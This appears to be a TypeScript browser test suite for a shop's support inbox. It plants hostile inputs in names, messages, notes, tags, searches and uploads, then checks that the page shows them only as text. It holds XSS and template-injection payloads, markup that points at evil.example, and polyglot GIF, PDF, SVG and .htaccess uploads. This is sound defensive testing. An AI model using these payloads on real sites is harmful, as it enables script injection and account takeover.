import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import { sql } from 'kysely';
import type { Page } from 'playwright-core';
import { website } from '../server/channels/testing.ts';
import { openTab, seriousFlaws, shoot, until } from '../server/testing/browser.ts';
import { sendOut } from '../server/testing/parcels.ts';
import { type TestShop, testShop } from '../server/testing/shop.ts';
import { misplacedOn, unisolatedOn } from './look-over.ts';

const rtl = '\u202e';
const hides = '\u200b';
/** Says so when it runs, in a way that no rule of the page hides. */
const runs = "window.__pwned=1;alert('pwned')";
const payloads = [
  `<img src=x onerror="${runs}">`,
  `"><script>${runs}</script>`,
  `<svg/onload="${runs}"><style>*{display:none}@import url(//evil.example/x)</style></svg>`,
  `<math><mtext><xmp><img src=x onerror="${runs}"></xmp></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror='${runs}'>"></p>`,
  '<form action=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
  `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  `javascript:${runs} data:text/html,<script>${runs}</script>`,
  `{{constructor.constructor('${runs}')()}} \${${runs}} {customer} <%= 7*7 %>`,
  `${rtl}gpj.exe${hides}.htaccess e${'\u0301'.repeat(60)} 👩‍👩‍👧‍👦 𠮷`,
  'W'.repeat(180),
];
const short = `<img src=x onerror=alert(1)>`;
const name = `Mallory ${rtl}evil${hides} ${payloads[0]}`;

type Hostile = { shop: TestShop; page: Page; id: string; dialogs: string[] };

/** Whatever comes from outside is as bad as it can be, also what no form of ours would let through. */
async function open(t: TestContext, width = 1440): Promise<Hostile> {
  const shop = await testShop(t, { name });
  const customerId = crypto.randomUUID();
  await sql`insert into customers (shop_id, id, external_id, name, tier, phone, email, synced_at) values (${shop.id},
    ${customerId}, ${`C-${short}`}, ${name}, ${payloads[1]}, ${short}, ${short}, ${shop.now()})`.execute(shop.db);
  const number = `ORD-${payloads[0]}`;
  const { orderId, parcelId } = await sendOut(shop, number, payloads[0] ?? '', customerId);
  await sql`insert into order_lines (shop_id, id, order_id, external_id, title, quantity)
    values (${shop.id}, ${crypto.randomUUID()}, ${orderId}, 'L1', ${payloads[2]}, 1)`.execute(shop.db);
  await sql`update parcels set carrier = ${payloads[1]}, tracking_number = ${short}, origin_city = ${`${rtl}x${short}`}
    where shop_id = ${shop.id} and id = ${parcelId}`.execute(shop.db);
  await sql`update agents set name = ${payloads[0]} where shop_id = ${shop.id}`.execute(shop.db);
  const id = await write(shop, number);
  const { page } = await openTab(t, shop, `/desk/inbox/all/${id}`, {
    cookie: shop.people.agent.cookie,
    width,
    height: 900,
  });
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  await page.locator('.message[data-seq]').first().waitFor();
  return { shop, page, id, dialogs };
}

/** Every payload as a message of the buyer, and in the tags, a note, a draft and a proposal of the conversation. */
async function write(shop: TestShop, number: string): Promise<string> {
  const session = (
    await shop.post(`/api/chat/${shop.code}/session`, { token: await tokenFor(shop) }, { as: null })
  ).json<{ session: string }>();
  for (const [at, text] of payloads.entries()) {
    const reply = await shop.post(
      '/api/chat/messages',
      { clientKey: `hostile-message-${at}`, text },
      { key: session.session },
    );
    assert.equal(reply.statusCode, 200, reply.body);
  }
  const { rows } = await sql<{ id: string }>`select id from conversations where shop_id = ${shop.id}`.execute(shop.db);
  const id = rows[0]?.id ?? assert.fail('there is no conversation');
  const note = { clientKey: 'hostile-note-of-test', body: payloads.join('\n') };
  assert.equal((await shop.post(`conversations/${id}/notes`, note, { as: 'agent' })).statusCode, 200);
  await shop.put(`conversations/${id}/draft`, { body: payloads.join('\n'), seenSeq: 1 }, { as: 'agent' });
  const facts = JSON.stringify([{ name: short, value: payloads[0], source: short, asOf: shop.now().toString() }]);
  await sql`update conversations set tags = ${[short, `${rtl}tag`]} where shop_id = ${shop.id}`.execute(shop.db);
  await sql`with placed as (update conversations set last_seq = last_seq + 2 where shop_id = ${shop.id} returning id, last_seq)
    insert into messages (shop_id, conversation_id, seq, id, author, visibility, proposal_state, body, script, script_version, facts, at)
    select ${shop.id}::uuid, id, last_seq - 1, ${crypto.randomUUID()}::uuid, 'qin', 'public', null, ${payloads.join('\n')}, ${short}, 1::int, ${facts}::jsonb, ${shop.now()}::timestamptz from placed
    union all select ${shop.id}::uuid, id, last_seq, ${crypto.randomUUID()}::uuid, 'qin', 'suggestion', 'open', ${`${number} ${payloads.join('\n')}`}, ${short}, 1::int, ${facts}::jsonb, ${shop.now()}::timestamptz from placed`.execute(
    shop.db,
  );
  return id;
}

const tokenFor = async (shop: TestShop) => (await website(shop)).tokenFor(`C-${short}`);

/** Nothing ran, nothing of it became part of the page, nothing sticks out. */
async function isHarmless({ page, dialogs }: Pick<Hostile, 'page' | 'dialogs'>, place: string): Promise<void> {
  assert.deepEqual(dialogs, [], place);
  assert.equal(await page.evaluate('window.__pwned'), undefined, place);
  const foreign =
    'script:not([src]), iframe, object, embed, math, xmp, base, form[action], meta[http-equiv], img[onerror], [onload], a[href^="javascript:" i], a[href^="data:" i]';
  assert.equal(await page.locator(foreign).count(), 0, `${place}: it became part of the page`);
  assert.equal(await page.locator('img[src="x"], [style*="position:fixed"]').count(), 0, place);
  assert.deepEqual(await misplacedOn(page), [], place);
  assert.deepEqual(await unisolatedOn(page), [], place);
}

test('hostile names, messages, notes, tags, facts and orders stand in inbox, thread and panel as text', async (t) => {
  const hostile = await open(t);
  const { page } = hostile;
  await page.locator('.order').waitFor();
  await shoot(page, 'hostile-thread');
  await isHarmless(hostile, 'thread');
  const said = await page.locator('.message.is-buyer .message-body').allTextContents();
  const shown = payloads.map((text) => text.replaceAll(rtl, ''));
  assert.deepEqual(said, shown, 'every message stands there as it was written, and nothing turns it round');
  assert.ok((await page.locator('.row-name').textContent())?.includes('<img src=x'), 'the name is text');
  assert.ok((await page.locator('.message.is-note').last().textContent())?.includes('<script>'), 'the note is text');
  assert.ok((await page.locator('.proposal').textContent())?.includes('<script>'), 'the proposal is text');
  await page
    .locator('details.why')
    .first()
    .evaluate((details) => Object.assign(details, { open: true }));
  await isHarmless(hostile, 'why');
  assert.ok(
    (await page.locator('.inbox-panel').textContent())?.includes(payloads[0] ?? '-'),
    'order and city are text',
  );
  assert.doesNotMatch(await page.title(), /\u202e/, 'the title of the tab is not turned round');
  assert.deepEqual(await seriousFlaws(page), []);
});

test('a name that turns the direction of writing turns nothing but itself', async (t) => {
  const { page } = await open(t);
  await page.locator('.order').waitFor();
  assert.deepEqual(await unisolatedOn(page), []);
});

test('hostile words are found by the search, shown on a phone and pasted into the assist page as text', async (t) => {
  const hostile = await open(t, 390);
  const { page } = hostile;
  await shoot(page, 'hostile-phone');
  await isHarmless(hostile, 'phone');
  await page.goto(`/desk/search?q=${encodeURIComponent('onerror')}`);
  await page.locator('.found-item').first().waitFor();
  await isHarmless(hostile, 'search');
  await page.goto(`/desk/search?q=${encodeURIComponent(payloads[1] ?? '')}`);
  await page.locator('[role=status], .found-item').first().waitFor();
  assert.ok((await page.locator('h1').textContent())?.includes('<script>'));
  await isHarmless(hostile, 'what is searched for');
  await page.goto('/desk/assist');
  await page.locator('#assist-text').fill(`${payloads.join('\n')} where is my parcel?`);
  await page.locator('#assist-buyer').fill(short);
  await page.locator('.assist-buttons .ant-btn-primary').click();
  await until(async () => (await page.locator('.assist-recent li').count()) > 0);
  await shoot(page, 'hostile-assist');
  await isHarmless(hostile, 'assist');
  await page.goto(`/desk/scripts/${encodeURIComponent(short)}/en`);
  await page.locator('main').waitFor();
  await isHarmless(hostile, 'address');
});

test('a wording with markup goes to the buyer as text, and what looks like a photo but is none is refused', async (t) => {
  const { shop, id } = await open(t);
  const files: [string, Buffer][] = [
    ['SVG with a script', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${runs}"/>`)],
    ['page', Buffer.from(`<!doctype html><script>${runs}</script>`)],
    ['GIF that is also a script', Buffer.from(`GIF89a/*\0\0*/=1;${runs}`)],
    ['.htaccess', Buffer.from('AddType application/x-httpd-php .jpg')],
    ['ASF of 55 bytes', Buffer.concat([Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'), Buffer.alloc(39)])],
    ['zip', Buffer.from('504b0506000000000000000000000000000000000000', 'hex')],
    ['PDF', Buffer.from(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${runs})>>>>endobj`)],
    ['PNG of 50,000 by 50,000', pngHead(50_000)],
  ];
  const { base, context } = await openTab(t, shop, '/desk/inbox/all', { cookie: shop.people.agent.cookie });
  for (const [what, data] of files) {
    const headers = { 'content-type': 'image/png', 'sec-fetch-site': 'same-origin' };
    const reply = await context.request.post(`${base}/api/files`, { data, headers });
    assert.ok([413, 415, 422].includes(reply.status()), `${what}: ${reply.status()} ${await reply.text()}`);
    assert.doesNotMatch(await reply.text(), /sharp|vips|stack|undefined/i, what);
  }
  assert.equal((await shop.get(`conversations/${id}`)).statusCode, 200);
  const chat = await openTab(t, shop, `/chat/${shop.code}#token=${await tokenFor(shop)}`);
  const dialogs: string[] = [];
  chat.page.on('dialog', (dialog) => dialog.dismiss().then(() => dialogs.push(dialog.message())));
  await chat.page.locator('#messages .qin').last().waitFor();
  await shoot(chat.page, 'hostile-chat');
  await isHarmless({ page: chat.page, dialogs }, 'chat');
  assert.ok(
    (await chat.page.locator('#messages').textContent())?.includes('<meta http-equiv'),
    'a wording is text too',
  );
});

/** The first bytes of a picture: so large, and nothing in it. */
function pngHead(size: number): Buffer {
  const head = Buffer.from('89504e470d0a1a0a0000000d49484452000000000000000008060000000000000000000000', 'hex');
  head.writeUInt32BE(size, 16);
  head.writeUInt32BE(size, 20);
  return head;
}
